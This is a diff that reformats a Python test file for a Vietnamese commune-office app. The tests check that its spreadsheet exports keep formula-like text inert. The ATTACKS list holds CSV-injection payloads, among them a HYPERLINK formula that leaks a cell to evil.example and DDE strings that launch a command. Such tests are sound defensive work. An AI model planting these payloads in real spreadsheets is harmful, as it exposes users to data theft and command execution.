@@ -3,7 +3,6 @@ opens as text in LibreOffice, and imports back as the same text."""
 
 from __future__ import annotations
 
-import io
 import re
 import shutil
 import subprocess
@@ -14,14 +13,22 @@ from pathlib import Path
 import pytest
 from hypothesis import HealthCheck, given, settings, strategies as st
 
-ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+84 912 345 678",
-           "-5 người tham gia", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
+    "=cmd|' /C calc'!A0",
+    "+84 912 345 678",
+    "-5 người tham gia",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+]
 
 
 # What officers type: ASCII, Vietnamese letters and the punctuation of formulas and links (a text the domain
 # would refuse for other reasons, e.g. as legacy TCVN3, is not the point here).
-ALPHABET = ("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 !\"#$%&'()*+,-./:;<=>?@[]^_{|}~"
-            "ăâđêôơưĂÂĐÊÔƠƯáàảãạắằẳẵặấầẩẫậéèẻẽẹếềểễệíìỉĩịóòỏõọốồổỗộớờởỡợúùủũụứừửữựýỳỷỹỵ")
+ALPHABET = (
+    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 !\"#$%&'()*+,-./:;<=>?@[]^_{|}~"
+    "ăâđêôơưĂÂĐÊÔƠƯáàảãạắằẳẵặấầẩẫậéèẻẽẹếềểễệíìỉĩịóòỏõọốồổỗộớờởỡợúùủũụứừửữựýỳỷỹỵ"
+)
 
 
 def _formula_cells(path: Path) -> list[str]:
@@ -40,8 +47,16 @@ def _add(db, titles):
 
     repo = PropagandaRepository(db, "t", today=lambda: date(2026, 11, 20))
     for i, title in enumerate(titles):
-        repo.add(PropagandaActivity(activity_date=date(2026, 3, 1 + i % 27), form_code="loa", title=title,
-                                    participants=3, organiser=title, note=title))
+        repo.add(
+            PropagandaActivity(
+                activity_date=date(2026, 3, 1 + i % 27),
+                form_code="loa",
+                title=title,
+                participants=3,
+                organiser=title,
+                note=title,
+            )
+        )
 
 
 def _titles(db) -> list[str]:
@@ -73,8 +88,13 @@ def test_attack_texts_export_as_text_and_come_back_the_same(demo_db, tmp_path):
 
 
 @settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(st.lists(st.tuples(st.sampled_from(["=", "+", "-", "@"]),
-                          st.text(alphabet=ALPHABET, min_size=1, max_size=30)), min_size=1, max_size=4))
+@given(
+    st.lists(
+        st.tuples(st.sampled_from(["=", "+", "-", "@"]), st.text(alphabet=ALPHABET, min_size=1, max_size=30)),
+        min_size=1,
+        max_size=4,
+    )
+)
 def test_any_text_starting_like_a_formula_round_trips(tmp_path_factory, pairs):
     from commune_desk.services.demo import create_demo
     from commune_desk.storage.database import open_database
@@ -107,8 +127,11 @@ def test_every_app_workbook_keeps_risky_text_as_text(demo_db, tmp_path, qapp):
     plan = replace(plan, targets=(replace(target, text=ATTACKS[0]),), title=ATTACKS[1])
     PlanRepository(demo_db, "t").store(plan, source_name="plan.xlsx")
     files = generate(demo_db, Period.parse("2026-Q3"), tmp_path / "report", day=date(2026, 10, 5), actor="t")
-    written = [files.xlsx, write_plan_workbook(tmp_path / "plan.xlsx", plan),
-               export_rows(tmp_path / "list.xlsx", "Tuyên truyền", ["Tiêu đề", "Số"], [[a, 1] for a in ATTACKS])]
+    written = [
+        files.xlsx,
+        write_plan_workbook(tmp_path / "plan.xlsx", plan),
+        export_rows(tmp_path / "list.xlsx", "Tuyên truyền", ["Tiêu đề", "Số"], [[a, 1] for a in ATTACKS]),
+    ]
     import openpyxl
 
     for path in written:
@@ -130,9 +153,22 @@ def test_libreoffice_opens_the_export_without_evaluating_anything(demo_db, tmp_p
     book = tmp_path / "export.xlsx"
     export_records(demo_db, book)
     profile = tmp_path / "lo-profile"
-    r = subprocess.run(["soffice", "--headless", "--norestore", f"-env:UserInstallation=file://{profile}",
-                        "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
-                        "--outdir", str(tmp_path), str(book)], capture_output=True, text=True, timeout=180)
+    r = subprocess.run(
+        [
+            "soffice",
+            "--headless",
+            "--norestore",
+            f"-env:UserInstallation=file://{profile}",
+            "--convert-to",
+            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
+            "--outdir",
+            str(tmp_path),
+            str(book),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=180,
+    )
     assert r.returncode == 0, r.stderr
     csv_files = sorted(tmp_path.glob("export*.csv"))
     text = "\n".join(p.read_text(encoding="utf-8", errors="replace") for p in csv_files)
